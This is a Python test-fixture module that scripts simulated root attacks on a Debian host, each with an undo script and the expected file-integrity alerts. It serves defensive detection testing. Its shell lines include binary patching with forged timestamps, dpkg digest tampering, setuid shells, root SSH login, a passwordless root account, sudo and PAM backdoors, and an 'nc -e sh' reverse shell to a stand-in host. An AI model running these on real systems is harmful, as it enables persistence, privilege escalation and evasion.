# Copyright: bulwark.servers contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What attackers who are root do to the files of a Debian host, how it is undone, and what must be said about it."""

from __future__ import annotations

import dataclasses
import shlex
import typing as t

# Where attacks keep the originals; nothing watches it.
_KEPT = "/var/tmp/kept"

# Alert and severity by path.
Expected = t.Mapping[str, tuple[str, str]]


@dataclasses.dataclass(frozen=True)
class Attack:
    """One attack on a host with a baseline.

    do, undo: scripts for the host's shell. raises: every finding of it. says: what the message of its first finding
    must say. left: every finding once it is undone, of files that no package vouches for and that have another inode or
    other times than before.
    """

    name: str
    do: str
    undo: str
    raises: Expected
    says: str = ""
    left: Expected = dataclasses.field(default_factory=dict)


# What administrators had put on the host before the baseline was made, and attackers use.
PREPARED = f"""
install -d -m 0700 {_KEPT}
install -d /opt/shop/bin
printf '#!/bin/sh\\nexec sleep 1\\n' > /opt/shop/bin/shop
printf '#!/bin/sh\\nexec sleep 2\\n' > /opt/shop/bin/report
printf 'auth requisite pam_deny.so\\n' > /etc/pam.d/shop
chmod 0755 /opt/shop/bin/*
touch -d '2026-01-01' /opt/shop/bin/*
"""


def _saved(path: str, change: str) -> tuple[str, str]:
    """Return scripts that keep a file as ``$kept``, change it, and put it back."""
    kept = f"{_KEPT}/{path.strip('/').replace('/', '+')}"
    do = f"kept={kept}; file={path}; cp -a --no-target-directory $file $kept; {change}"
    return do, f"cp -a --no-target-directory --remove-destination {kept} {path}; rm {kept}"


def _changed(name: str, path: str, change: str, raises: tuple[str, str], says: str = "", left: bool = False) -> Attack:
    """left: no package vouches for the file, so that another inode and other times are left once it is put back."""
    do, undo = _saved(path, change)
    return Attack(name, do, undo, {path: raises}, says, {path: _METADATA} if left else {})


def _appended(name: str, path: str, line: str, raises: tuple[str, str], left: bool = True) -> Attack:
    return _changed(name, path, f"echo {shlex.quote(line)} >> $file", raises, "The content changed", left)


def _new(
    path: str,
    raises: tuple[str, str],
    content: str = "# not yours\n",
    mode: str = "0644",
    directories: t.Sequence[str] = (),
) -> Attack:
    """directories: those that are watched and weren't there either, from the root on."""
    missing = "".join(f"mkdir {directory}; " for directory in directories)
    do = f"{missing}printf %s {shlex.quote(content)} > {path}; chmod {mode} {path}"
    undo = f"rm {path}" + "".join(f"; rmdir {directory}" for directory in reversed(directories))
    # The topmost speaks for those below it that the same watch has.
    told = [directory for directory in directories if directory not in _INNER]
    return Attack(path, do, undo, {path: raises, **dict.fromkeys(told, _DIRECTORY)}, "A new file")


def _edited_with_digest(path: str, package: str) -> Attack:
    """Return an attack that makes the package's own verification pass."""
    sums = f"/var/lib/dpkg/info/{package}.md5sums"
    name = path.lstrip("/")
    do, undo = _saved(path, f"cp -a {sums} {_KEPT}/sums; {_PATCH}")
    do += f'; sed -i "s|^.*  {name}$|$(md5sum $file | cut -c1-32)  {name}|" {sums}'
    alert = "fim_package_database_edited"
    raises = {path: (alert, "critical"), f"dpkg:{package}:amd64": (alert, "high")}
    return Attack("program and its package's digest", do, f"{undo}; mv {_KEPT}/sums {sums}", raises, package)


_METADATA = ("fim_metadata_changed", "informational")
_DIRECTORY = ("fim_directory_created", "informational")
_INNER = ("/etc/network/if-up.d", "/etc/polkit-1/rules.d", "/etc/udev/rules.d", "/var/spool/cron/crontabs")
# The same size, the same times, the same inode: what a careless look can't see.
_PATCH = r"""printf '\220\220\220\220' | dd of=$file bs=1 seek=4096 conv=notrunc status=none; touch -r $kept $file"""
# Another file under the name, grown to the same size, with the same times.
_SWAP = (
    "cp /usr/bin/id $file.new; truncate -s $(stat -c %s $kept) $file.new; chmod 0755 $file.new;"
    " touch -r $kept $file.new; mv -f $file.new $file"
)
_PROGRAM = ("fim_package_mismatch", "critical")
_SETUID = ("fim_setuid_added", "high")
_PERMISSIONS = ("fim_permissions_changed", "high")
_UNIT = ("persistence_systemd_unit", "high")
_SCRIPT = "#!/bin/sh\n"

_PROGRAMS = (
    _changed("packaged program patched in place", "/usr/bin/ls", _PATCH, _PROGRAM, "coreutils"),
    _changed("packaged program swapped", "/usr/bin/who", _SWAP, _PROGRAM, "coreutils"),
    _changed("library patched in place", "/usr/lib/x86_64-linux-gnu/libmnl.so.0.2.0", _PATCH, _PROGRAM, "libmnl0"),
    _edited_with_digest("/usr/bin/free", "procps"),
    Attack(
        "program moved away for a wrapper",
        "cd /usr/bin; mv tty .tty; printf '#!/bin/sh\\nexec /usr/bin/.tty\\n' > tty; chmod 0755 tty",
        "mv -f /usr/bin/.tty /usr/bin/tty",
        {"/usr/bin/tty": _PROGRAM, "/usr/bin/.tty": ("fim_file_created", "high")},
        "coreutils",
    ),
    _changed("packaged program deleted", "/usr/bin/factor", "rm $file", ("fim_file_deleted", "high"), "coreutils"),
    _changed(
        "own program changed and its time kept",
        "/opt/shop/bin/shop",
        "echo 'nc -e sh 198.51.100.7 99' >> $file; touch -r $kept $file",
        ("fim_timestamp_forged", "high"),
        "time was kept",
        left=True,
    ),
    Attack(
        "own program renamed",
        "mv /opt/shop/bin/report /opt/shop/bin/login",
        "mv /opt/shop/bin/login /opt/shop/bin/report",
        {"/opt/shop/bin/login": ("fim_file_renamed", "medium")},
        "It was /opt/shop/bin/report before",
        {"/opt/shop/bin/report": _METADATA},
    ),
    _new("/usr/local/sbin/helper", ("fim_file_created", "medium"), _SCRIPT, "0755"),
    _appended("other configuration edited", "/etc/inputrc", "set bell-style none", ("fim_file_modified", "medium")),
)
_PRIVILEGES = (
    Attack(
        "setuid copy of a shell",
        "cp /usr/bin/dash /usr/local/bin/.d; chmod 4755 /usr/local/bin/.d",
        "rm /usr/local/bin/.d",
        {"/usr/local/bin/.d": _SETUID},
        "setuid now (mode 4755, owner root)",
    ),
    Attack(
        "setuid copy of a shell among libraries",
        "cp /usr/bin/dash /usr/lib/x86_64-linux-gnu/libz.so.9; chmod 6755 /usr/lib/x86_64-linux-gnu/libz.so.9",
        "rm /usr/lib/x86_64-linux-gnu/libz.so.9",
        {"/usr/lib/x86_64-linux-gnu/libz.so.9": _SETUID},
        "setuid and setgid",
    ),
    Attack(
        "setuid bit on a packaged program",
        "chmod u+s /usr/bin/find",
        "chmod u-s /usr/bin/find",
        {"/usr/bin/find": _SETUID},
        "findutils",
    ),
    Attack(
        "capability on a packaged program",
        "setcap cap_setuid+ep /usr/bin/perl",
        "setcap -r /usr/bin/perl",
        {"/usr/bin/perl": ("fim_capability_added", "high")},
        "cap_setuid",
    ),
    Attack(
        "another account may write a program",
        "setfacl -m u:ansible:rwx /usr/bin/install",
        "setfacl -b /usr/bin/install",
        {"/usr/bin/install": _PERMISSIONS},
        "access control list",
    ),
    Attack(
        "everybody may write the groups",
        "chmod 0666 /etc/group",
        "chmod 0644 /etc/group",
        {"/etc/group": _PERMISSIONS},
        "Everybody can write to it now (mode 0666, it was 0644 before)",
        {"/etc/group": _METADATA},
    ),
    Attack(
        "file that root can't remove",
        "chattr +i /etc/hosts.deny",
        "chattr -i /etc/hosts.deny",
        {"/etc/hosts.deny": ("fim_immutable_flag_changed", "medium")},
        "immutable",
        {"/etc/hosts.deny": _METADATA},
    ),
    Attack(
        "device node of the disk",
        "mknod /etc/.disk b 8 0",
        "rm /etc/.disk",
        {"/etc/.disk": ("fim_file_created", "high")},
        "device node",
    ),
    _changed(
        "file became a FIFO",
        "/etc/issue",
        "rm $file; mkfifo $file",
        ("fim_file_type_changed", "medium"),
        "replaced by a fifo",
    ),
    _changed(
        "file swapped for a link",
        "/etc/nftables.conf",
        "mv $file /tmp/rules; ln -s /tmp/rules $file",
        ("fim_file_replaced_by_link", "high"),
        "link to /tmp/rules",
    ),
)
_LOGINS = (
    _appended(
        "/etc/ssh/sshd_config", "/etc/ssh/sshd_config", "PermitRootLogin yes", ("sshd_configuration_changed", "high")
    ),
    _new("/etc/ssh/sshd_config.d/00.conf", ("sshd_configuration_changed", "high"), "PermitRootLogin yes\n"),
    _new("/root/.ssh/authorized_keys", ("persistence_ssh_key", "high"), "ssh-ed25519 AAAA eve\n", "0600"),
    _appended(
        "key of another account",
        "/home/ansible/.ssh/authorized_keys",
        "ssh-ed25519 A eve",
        ("persistence_ssh_key", "high"),
    ),
    _appended(
        "host key", "/etc/ssh/ssh_host_ed25519_key.pub", "ssh-ed25519 AAAA eve", ("ssh_host_key_changed", "medium")
    ),
    _appended("second account of root's", "/etc/passwd", "toor::0:0::/:/bin/sh", ("account_file_changed", "medium")),
    _appended("sudo rule", "/etc/sudoers.d/ansible", "games ALL=(ALL) NOPASSWD: ALL", ("persistence_sudoers", "high")),
    _new("/etc/sudoers.d/zz", ("persistence_sudoers", "high"), "# ALL\n", "0440"),
    _appended(
        "PAM without a password", "/etc/pam.d/shop", "auth sufficient pam_permit.so", ("persistence_pam", "high")
    ),
    _new("/usr/lib/x86_64-linux-gnu/security/pam_x.so", ("persistence_pam", "high"), "\x7fELF"),
    _new("/etc/profile.d/00.sh", ("persistence_shell_profile", "medium")),
    _appended("/home/ansible/.bashrc", "/home/ansible/.bashrc", "(sleep 1 &)", ("persistence_shell_profile", "medium")),
    _new("/etc/update-motd.d/99", ("persistence_motd", "medium"), _SCRIPT, "0755"),
    _new("/etc/xdg/autostart/x.desktop", ("persistence_xdg_autostart", "medium"), directories=["/etc/xdg/autostart"]),
    _new(
        "/etc/polkit-1/rules.d/0.rules",
        ("persistence_polkit", "high"),
        directories=["/etc/polkit-1", "/etc/polkit-1/rules.d"],
    ),
)
_STARTS = (
    Attack(
        "systemd unit, enabled",
        "printf '[Service]\\nExecStart=/bin/sh -c :\\n' > /etc/systemd/system/updater.service;"
        " ln -s ../updater.service /etc/systemd/system/multi-user.target.wants/updater.service",
        "rm /etc/systemd/system/updater.service /etc/systemd/system/multi-user.target.wants/updater.service",
        {
            "/etc/systemd/system/updater.service": _UNIT,
            "/etc/systemd/system/multi-user.target.wants/updater.service": _UNIT,
        },
        "no package owns it",
    ),
    _new(
        "/etc/systemd/system/ssh.service.d/x.conf",
        _UNIT,
        "[Service]\n",
        directories=["/etc/systemd/system/ssh.service.d"],
    ),
    _new(
        "/etc/systemd/system-generators/x",
        ("persistence_systemd_generator", "high"),
        _SCRIPT,
        "0755",
        ["/etc/systemd/system-generators"],
    ),
    _new(
        "/usr/local/lib/systemd/user/x.service",
        ("persistence_user_unit", "medium"),
        directories=["/usr/local/lib/systemd", "/usr/local/lib/systemd/user"],
    ),
    _new("/etc/cron.d/logs", ("persistence_cron", "high"), "* * * * * root /bin/true\n"),
    _new("/etc/cron.daily/logs", ("persistence_cron", "high"), _SCRIPT, "0755"),
    _new(
        "/var/spool/cron/crontabs/root",
        ("persistence_cron", "high"),
        "* * * * * true\n",
        "0600",
        ["/var/spool/cron", "/var/spool/cron/crontabs"],
    ),
    _new("/etc/at.allow", ("persistence_at_job", "medium"), "games\n"),
    _new("/etc/init.d/x", ("persistence_init_script", "high"), _SCRIPT, "0755"),
    _new("/etc/rc.local", ("persistence_init_script", "high"), _SCRIPT, "0755"),
    _new("/etc/ld.so.preload", ("persistence_ld_preload", "critical"), "/lib/x86_64-linux-gnu/libm.so.6\n"),
    _new("/etc/ld.so.conf.d/0.conf", ("persistence_dynamic_linker", "high"), "/tmp\n"),
    _new("/etc/modprobe.d/x.conf", ("persistence_kernel_module", "high"), directories=["/etc/modprobe.d"]),
    _new("/boot/initrd.img-6.1", ("persistence_boot", "high")),
    _new("/etc/apt/apt.conf.d/99", ("persistence_package_hook", "high")),
    _appended(
        "maintainer script",
        "/var/lib/dpkg/info/openssh-server.postinst",
        "true",
        ("persistence_package_hook", "high"),
        left=False,
    ),
    _new(
        "/etc/udev/rules.d/99.rules", ("persistence_udev_rule", "high"), directories=["/etc/udev", "/etc/udev/rules.d"]
    ),
    _new(
        "/etc/network/if-up.d/x",
        ("persistence_network_hook", "high"),
        _SCRIPT,
        "0755",
        ["/etc/network", "/etc/network/if-up.d"],
    ),
    _new("/etc/logrotate.d/x", ("persistence_log_rotation", "medium")),
    _new("/usr/share/dbus-1/system-services/x.service", ("persistence_dbus_service", "medium")),
    _new("/usr/lib/python3/dist-packages/a.pth", ("persistence_python_startup", "high"), "import os\n"),
    _new("/etc/gitconfig", ("persistence_git_hook", "medium"), "[core]\n"),
    _new("/etc/php.ini", ("persistence_web_module", "medium")),
)
_DEFENCES = (
    _new("/etc/sysctl.d/99.conf", ("kernel_parameters_changed", "medium")),
    _new("/etc/apt/sources.list.d/x.list", ("package_source_changed", "medium")),
    _appended(
        "names from elsewhere", "/etc/nsswitch.conf", "hosts: dns", ("authentication_configuration_changed", "medium")
    ),
    _appended("name resolution", "/etc/host.conf", "multi off", ("name_resolution_changed", "medium"), False),
    _appended("audit", "/etc/libaudit.conf", "failure_action = ignore", ("audit_configuration_changed", "high"), False),
    _appended("firewall", "/etc/hosts.allow", "ALL: ALL", ("firewall_configuration_changed", "medium")),
    _new("/etc/selinux/config", ("access_control_configuration_changed", "high"), "SELINUX=disabled\n"),
    _new(
        "/usr/local/share/ca-certificates/x.crt",
        ("trust_store_changed", "medium"),
        directories=["/usr/local/share/ca-certificates"],
    ),
)

ATTACKS = (*_PROGRAMS, *_PRIVILEGES, *_LOGINS, *_STARTS, *_DEFENCES)
